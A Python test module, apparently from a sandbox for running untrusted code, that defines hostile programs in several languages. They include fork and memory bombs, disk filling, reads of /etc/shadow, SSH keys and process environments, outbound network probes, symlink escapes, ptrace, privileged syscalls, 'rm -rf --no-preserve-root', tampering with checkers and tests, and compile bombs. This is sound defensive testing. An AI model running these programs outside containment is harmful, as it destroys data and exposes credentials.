"""Programs that try to get out of their sandbox, or to take the machine down.

Each prints ESCAPED where it succeeds. They are for `r1cli.execution.hostile`, which runs them contained:
**never start one in any other way.**
"""

from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field

from r1cli.execution.program import ProgramVerdict as Verdict

ESCAPED = "ESCAPED"
OK, TLE, MLE, OLE, RE, CE = Verdict.OK, Verdict.TLE, Verdict.MLE, Verdict.OLE, Verdict.RE, Verdict.CE
#: How something ends that takes all it gets of processes: in which way depends on which limit it meets first.
_STOPPED = (TLE, MLE, RE, OLE)


@dataclass(frozen=True)
class Attack:
    """A hostile program.

    Args:
        name: what it tries.
        sources: it, by language.
        verdicts: how it may end.
        output_file: of the program.
        at_once: how many of them run at a time.
        follower: a program that runs afterwards, and finds what was left for it.
        argv: words of its command line; what is in braces is filled in by the suite.
        files: of the program.
    """

    name: str
    sources: Mapping[str, str]
    verdicts: Sequence[Verdict]
    output_file: str = ""
    at_once: int = 1
    follower: str = ""
    argv: Sequence[str] = ()
    files: Mapping[str, str] = field(default_factory=dict)


_FORK = {
    "python": "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
    "c": "#include <unistd.h>\nint main(){for(;;)fork();}",
    "javascript": "const {spawn}=require('child_process');function f(){try{spawn(process.execPath,[__filename])"
    ".on('error',()=>{})}catch(e){};setImmediate(f)};f()",
    "bash": "f(){ f | f & }; f; while :; do f; done",
}
_MEMORY = {
    "python": "data=[]\nwhile True: data.append(b'x'*(1<<24))",
    "c": "#include <stdlib.h>\n#include <string.h>\nint main(){for(;;){char*p=malloc(1<<24);if(p)memset(p,1,1<<24);}}",
    "javascript": "const d=[];for(;;)d.push(Buffer.alloc(1<<24,1))",
    "bash": "x=xxxxxxxxxxxxxxxx; while :; do x=$x$x; done",
}
_MEMFD = """import os
try:
    files = []
    while True:
        files.append(os.memfd_create('x'))
        for _ in range(16): os.write(files[-1], b'x' * (1 << 20))
except (OSError, AttributeError) as error:
    total = sum(os.fstat(each).st_size for each in files)
    print('ESCAPED' if total > 1 << 30 else 'stopped', total)
"""
_MEMORY_TREE = """import os
for _ in range(8):
    if os.fork() == 0:
        break
data = []
while True:
    data.append(b'x' * (1 << 22))
"""
_DISK = """import os
total = 0
for folder in ('/tmp', '/work', '/dev/shm', '/dev', '/', '/packages', '/artifacts', '/usr'):
    try:
        for number in range(10**6):
            with open(f'{folder}/{number}', 'wb', buffering=0) as file:
                for _ in range(64):
                    total += file.write(b'x' * (1 << 20))
    except OSError as error:
        pass
print('ESCAPED' if total > 1 << 28 else 'stopped')
"""
_FILES = """import os
count = 0
try:
    while count < 3 * 10**6:
        os.mkdir(f'/tmp/{count}'); count += 1
    print('ESCAPED')
except OSError:
    print('stopped')
"""
_ENDLESS = {
    "python": "import sys\nwhile True: sys.stdout.write('x'*65536); sys.stderr.write('y'*65536)",
    "c": '#include <stdio.h>\nint main(){for(;;)fputs("xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",stderr);}',
    "javascript": "const s='x'.repeat(65536);for(;;)require('fs').writeSync(1,s)",
    "bash": "while :; do printf '%4096s' x; done",
}
_SIGTERM = {
    "python": "import signal\nfor n in range(1,65):\n    try: signal.signal(n, signal.SIG_IGN)\n"
    "    except (OSError, ValueError): pass\nwhile True: pass",
    "c": "#include <signal.h>\nint main(){for(int i=1;i<65;i++)signal(i,SIG_IGN);for(;;);}",
    "javascript": "for(const s of ['SIGTERM','SIGINT','SIGHUP','SIGXCPU'])process.on(s,()=>{});for(;;);",
    "bash": "trap '' TERM INT HUP XCPU; while :; do :; done",
}
_DAEMON = {
    "python": "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
    "        time.sleep(300)\n    os._exit(0)\nprint('left')",
    "c": "#include <unistd.h>\n#include <stdio.h>\nint main(){if(!fork()){setsid();if(!fork())sleep(300);_exit(0);}"
    'puts("left");}',
    "javascript": "require('child_process').spawn('sleep',['300'],{detached:true,stdio:'ignore'}).unref();"
    "console.log('left')",
    "bash": "setsid sleep 300 & disown; echo left",
}
_HIDDEN_CPU = """import os, signal
signal.signal(signal.SIGCHLD, signal.SIG_IGN)
while True:
    if os.fork() == 0:
        for _ in range(2 * 10**6): pass
        os._exit(0)
    try:
        os.wait()
    except ChildProcessError:
        pass
"""
_READ = """import glob, os, sys
canary, path = 'r1-canary', sys.argv[1]
looked = [path, '/etc/shadow', '/etc/hostname', '/etc/machine-id', '/root/.bash_history', '/root/.ssh/id_rsa',
          '/sys/class/net/eth0/address', '/proc/1/environ', '/proc/1/root' + path, '/proc/self/root' + path,
          '/proc/1/cwd' + path, *glob.glob('/proc/*/environ'), *glob.glob('/proc/*/task/*/environ')]
for each in looked:
    try:
        with open(each, 'rb') as file:
            content = file.read(1 << 16)
    except OSError:
        continue
    if not each.startswith('/proc') or canary.encode() in content:
        print('ESCAPED', each)
others = [each for each in os.listdir('/proc') if each.isdigit() and int(each) > 20]
if others: print('ESCAPED sees processes', others)
if any(canary in value for value in os.environ.values()): print('ESCAPED environment')
for folder in ('/home', '/tmp', '/dev/shm', os.path.expanduser('~')):
    if os.path.isdir(folder) and os.listdir(folder): print('ESCAPED', folder, os.listdir(folder)[:5])
for each in ('/dev/mem', '/dev/kmsg', '/dev/vda', '/dev/sda', '/dev/kvm', '/dev/fuse', '/dev/vsock'):
    if os.path.exists(each): print('ESCAPED', each)
try:
    import r1cli
    print('ESCAPED r1cli')
except ImportError:
    pass
"""
_READ_C = r"""#include <stdio.h>
#include <string.h>
int main(int n,char**a){char b[65536];const char*p[]={a[1],"/etc/shadow","/etc/machine-id","/root/.bashrc"};
for(int i=0;i<4;i++){FILE*f=fopen(p[i],"r");if(f&&fread(b,1,sizeof b,f)>0)printf("ESCAPED %s\n",p[i]);}
FILE*f=fopen("/proc/1/environ","r");size_t k=f?fread(b,1,sizeof b-1,f):0;if(k&&memmem(b,k,"r1-canary",9))puts("ESCAPED env");
puts("looked");}
"""
_READ_JS = """const fs=require('fs');for(const p of [process.argv[2],'/etc/shadow','/etc/machine-id','/root/.bashrc']){
try{fs.readFileSync(p);console.log('ESCAPED',p)}catch(e){}}
if(JSON.stringify(process.env).includes('r1-canary'))console.log('ESCAPED environment')
"""
_READ_BASH = """for p in "$1" /etc/shadow /etc/machine-id /root/.bashrc; do cat "$p" 2>/dev/null && echo ESCAPED "$p"; done
env | grep -q r1-canary && echo ESCAPED environment; echo looked
"""
_NETWORK = """import socket, sys
port, name = int(sys.argv[1]), sys.argv[2]
def attempt(what, call):
    try:
        call(); print('ESCAPED', what)
    except OSError:
        pass
attempt('tcp', lambda: socket.create_connection(('127.0.0.1', port), timeout=1))
attempt('tcp out', lambda: socket.create_connection(('1.1.1.1', 53), timeout=1))
attempt('tcp6', lambda: socket.create_connection(('::1', port), timeout=1))
def udp():
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); one.settimeout(1)
    one.connect(('10.255.255.1', 9)); one.send(b'x')
attempt('udp', udp)
def abstract():
    one = socket.socket(socket.AF_UNIX); one.connect('\\0' + name)
attempt('abstract', abstract)
for family, what in ((40, 'vsock'), (17, 'packet'), (38, 'alg'), (31, 'bluetooth'), (29, 'can'), (44, 'xdp')):
    attempt(what, lambda: socket.socket(family, socket.SOCK_STREAM if family == 40 else socket.SOCK_RAW))
"""
_NETWORK_C = r"""#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
int main(int n,char**a){int s=socket(AF_INET,SOCK_STREAM,0);struct sockaddr_in d={AF_INET,htons(atoi(a[1]))};
d.sin_addr.s_addr=htonl(0x7f000001);if(s>=0&&!connect(s,(void*)&d,sizeof d))puts("ESCAPED tcp");puts("tried");}
"""
_NETWORK_BASH = "(exec 3<>/dev/tcp/127.0.0.1/$1) 2>/dev/null && echo ESCAPED; echo tried"
_NETWORK_JS = """const s=require('net').connect(+process.argv[2],'127.0.0.1');s.on('connect',()=>{console.log('ESCAPED');
process.exit()});s.on('error',()=>console.log('tried'))
"""
_ESCAPE_PATHS = """import os, sys
canary = sys.argv[1]
for target in (canary, '..' * 1 + '/..' * 12 + canary, '/proc/1/root' + canary):
    try:
        os.symlink(target, 'out.txt')
        print('ESCAPED' if 'r1-canary' in open('out.txt').read() else '')
    except OSError:
        pass
    if target != canary and os.path.lexists('out.txt'): os.unlink('out.txt')
for call in (lambda: os.chroot('/tmp'), lambda: os.link('/usr/bin/env', '/tmp/env'),
             lambda: os.mknod('/tmp/disk', 0o60666, os.makedev(254, 0)),
             lambda: os.chmod('/usr/bin/env', 0o777), lambda: open('/usr/bin/r1-was-here', 'w'),
             lambda: open('/etc/passwd', 'a'), lambda: open('/packages/x.py', 'w'), lambda: os.rename('/work', '/w'),
             lambda: os.unlink('/usr/bin/env'), lambda: open(os.__file__, 'a')):
    try:
        call(); print('ESCAPED')
    except OSError:
        pass
"""
_LINKED_OUTPUT = "import os, sys\nos.symlink(sys.argv[1], 'out.txt')"
_PARENTS = """import ctypes, os, signal
libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH, me = 16, os.getpid()
for pid in {1, os.getppid()}:
    if libc.ptrace(PTRACE_ATTACH, pid, 0, 0) == 0: print('ESCAPED ptrace')
    try:
        with open(f'/proc/{pid}/mem', 'r+b'): pass
    except OSError: pass
for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
    for pid in (1, os.getppid(), -1):
        if pid != me:
            try: os.kill(pid, number)
            except OSError: pass
print('alive', flush=True)
"""
_SYSCALLS = """import ctypes, os, platform
libc = ctypes.CDLL(None, use_errno=True)
if platform.machine() == 'x86_64':
    calls = {'unshare user': (272, 0x10000000), 'unshare net': (272, 0x40000000), 'unshare mount': (272, 0x20000),
             'mount': (165, b'none', b'/tmp', b'tmpfs', 0, 0), 'keyctl': (250, 0, -4, 1), 'add_key': (248, b'user', b'x', b'y', 1, -4),
             'io_uring': (425, 8, ctypes.create_string_buffer(256)), 'bpf': (321, 0, 0, 0), 'perf': (298, 0, 0, -1, -1, 0),
             'userfaultfd': (323, 0), 'ptrace': (101, 0, 0, 0, 0), 'clone': (56, 0x10000000 | 17, 0, 0, 0, 0),
             'setns': (308, 0, 0), 'open_tree': (428, -100, b'/', 1), 'fsopen': (430, b'tmpfs', 0),
             'setuid': (105, 0), 'setgid': (106, 0), 'reboot': (169, 0xfee1dead, 672274793, 0, 0), 'chroot': (161, b'/tmp')}
    for name, (number, *words) in calls.items():
        found = libc.syscall(number, *words)
        if found == 0 and name == 'clone': os._exit(0)
        if found >= 0: print('ESCAPED', name)
status = dict(line.split(':', 1) for line in open('/proc/self/status').read().splitlines())
for name in ('CapEff', 'CapPrm', 'CapInh', 'CapAmb', 'CapBnd'):
    if int(status[name], 16): print('ESCAPED', name, status[name])
if status['NoNewPrivs'].strip() != '1' or status['Seccomp'].strip() != '2': print('ESCAPED privileges')
if set(status['Uid'].split()) != {'65534'}: print('ESCAPED', status['Uid'])
print('tried')
"""
_DELETE = {
    "python": "import shutil\nfor path in ('/work','/tmp','/','/artifacts','/usr','/proc'): "
    "shutil.rmtree(path, ignore_errors=True)\nprint('done')",
    "bash": "rm -rf --no-preserve-root /work /tmp /* 2>/dev/null; echo done",
}
_OVERWRITE = """import glob, os
for name in ('checker.py', 'input.txt', 'correct_output.txt', 'answer', 'tests/1.out', '../artifacts/program', '/pipes/x'):
    try:
        os.makedirs(os.path.dirname(name) or '.', exist_ok=True)
        with open(name, 'w') as file: file.write('r1-canary')
    except OSError: pass
for path in glob.glob('/artifacts/*') + glob.glob('/packages/**', recursive=True)[:50]:
    try:
        open(path, 'a').close(); print('ESCAPED', path)
    except OSError: pass
"""
_OVERWRITTEN = """import os
for folder in ('/work', '/tmp', '/dev/shm', '/artifacts', '/pipes'):
    for path, folders, files in os.walk(folder):
        for name in files:
            if b'r1-' + b'canary' in open(os.path.join(path, name), 'rb').read(): print('ESCAPED', path, name)
print('clean')
"""
_SELF_OVERWRITE = r"""#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>
int main(int n,char**a){if(!chmod(a[0],0777)||!unlink(a[0])||fopen(a[0],"r+")||fopen("/artifacts/x","w"))puts("ESCAPED");puts("tried");}
"""
_DESCRIPTORS = """import os
for number in range(3, 1024):
    try:
        target = os.readlink(f'/proc/self/fd/{number}')
    except OSError:
        continue
    if 'fd' in target and '/proc' in target: continue
    try:
        os.write(number, b'x'); print('ESCAPED', number, target)
    except OSError: print('ESCAPED has', number, target)
for number in (0, 1, 2):
    target = os.readlink(f'/proc/self/fd/{number}')
    if not target.startswith(('pipe:', '/dev/null', '/memfd')): print('ESCAPED', target)
"""
_DESCRIPTORS_C = r"""#include <fcntl.h>
#include <stdio.h>
int main(){for(int i=3;i<1024;i++)if(fcntl(i,F_GETFD)>=0)printf("ESCAPED %d\n",i);puts("tried");}
"""
_LEAVE = """import builtins, math, os, random, sys, threading, time
builtins.print = lambda *words, **more: sys.stdout.write('ESCAPED print\\n')
builtins.sum = lambda *words: 0
math.sqrt = lambda value: -1
sys.path.insert(0, '/tmp'); sys.modules['json'] = None
os.environ['LEFT'] = 'r1-canary'
for path in ('/tmp/left', '/work/left', '/dev/shm/left', '/tmp/sitecustomize.py', '/work/random.py'):
    try: open(path, 'w').write('print("ESCAPED")')
    except OSError: pass
random.seed(1)
threading.Thread(target=lambda: time.sleep(300), daemon=True).start()
if os.fork() == 0:
    os.setsid(); time.sleep(300)
sys.stdout.write('left')
"""
_FIND_LEFT = """import math, os, random, sys, threading, json
bad = [path for path in ('/tmp/left', '/work/left', '/dev/shm/left', '/work/random.py') if os.path.exists(path)]
if bad or sum([1, 2]) != 3 or math.sqrt(4) != 2 or 'LEFT' in os.environ or threading.active_count() != 1: print('ESCAPED', bad)
if [each for each in os.listdir('/proc') if each.isdigit() and int(each) > 20]: print('ESCAPED processes')
print('clean')
"""
_KEYRING = """import ctypes
libc = ctypes.CDLL(None)
print('ESCAPED' if libc.syscall(248, b'user', b'r1', b'canary', 6, -3) > 0 else 'refused')
"""
_TEMPLATES = "template<int a,int b>struct F{static const long v=F<a-1,b>::v+F<a,b-1>::v+F<a-1,b-1>::v;};"
_COMPILE = {
    "recursion": _TEMPLATES + "template<int b>struct F<0,b>{static const long v=1;};"
    "template<int a>struct F<a,0>{static const long v=1;};int main(){return F<400,400>::v;}",
    "object": "int x[1<<29]={1};int y[1<<29]={2};int main(){return x[5]+y[6];}",
    "include": '#include "/dev/zero"\nint main(){}',
    "macros": "#define A(x) x x x x x x x x x x\n#define B(x) A(A(A(A(x))))\n#define C(x) B(B(x))\n"
    "int main(){ C(C(int(1);)) }",
    "itself": "#include __FILE__\n#include __FILE__\nint main(){}",
}


def attacks() -> list[Attack]:
    """All of them."""
    return [
        Attack("fork bomb", _FORK, _STOPPED),
        Attack("memory bomb", _MEMORY, (MLE, RE, TLE)),
        Attack("memory bombs, 16 at once", {"python": _MEMORY["python"]}, (MLE, RE), at_once=16),
        Attack("memory bomb of many processes", {"python": _MEMORY_TREE}, (MLE, RE, TLE)),
        Attack("memory of files without names", {"python": _MEMFD}, (OK, MLE, RE, OLE)),
        Attack("filling the disk", {"python": _DISK}, (OK, MLE, RE, OLE, TLE)),
        Attack("filling the disk with folders", {"python": _FILES}, (OK, MLE, RE, TLE)),
        Attack("endless output", _ENDLESS, (OLE,)),
        Attack("ignoring signals", _SIGTERM, (TLE,)),
        Attack("daemons", _DAEMON, (OK,), follower=_FIND_LEFT),
        Attack("CPU time of unwatched children", {"python": _HIDDEN_CPU}, (TLE,)),
        Attack("reading the machine", {"python": _READ, "c": _READ_C, "javascript": _READ_JS, "bash": _READ_BASH},
               (OK,), argv=("{canary}",)),
        Attack("the network", {"python": _NETWORK, "c": _NETWORK_C, "bash": _NETWORK_BASH, "javascript": _NETWORK_JS},
               (OK,), argv=("{port}", "{name}")),
        Attack("links and dots", {"python": _ESCAPE_PATHS}, (OK, RE), output_file="out.txt", argv=("{canary}",)),
        Attack("an output that is a link", {"python": _LINKED_OUTPUT}, (OK, RE), output_file="out.txt",
               argv=("{canary}",)),
        Attack("ptrace and signals", {"python": _PARENTS}, (OK, RE)),
        Attack("system calls", {"python": _SYSCALLS}, (OK,)),
        Attack("the keyring", {"python": _KEYRING}, (OK,)),
        Attack("deleting everything", _DELETE, (OK, RE, TLE), follower=_FIND_LEFT),
        Attack("overwriting checkers and tests", {"python": _OVERWRITE}, (OK, RE), follower=_OVERWRITTEN),
        Attack("overwriting itself", {"c": _SELF_OVERWRITE}, (OK,)),
        Attack("inherited descriptors", {"python": _DESCRIPTORS, "c": _DESCRIPTORS_C}, (OK,)),
        Attack("leaving something for the next", {"python": _LEAVE}, (OK,), follower=_FIND_LEFT),
        *(Attack(f"compile bomb: {name}", {"cpp": source}, (CE,)) for name, source in _COMPILE.items()),
        Attack("a file in the compiler's messages", {"c": '#include "{canary}"\nint main(){}'}, (CE,)),
    ]  # fmt: skip
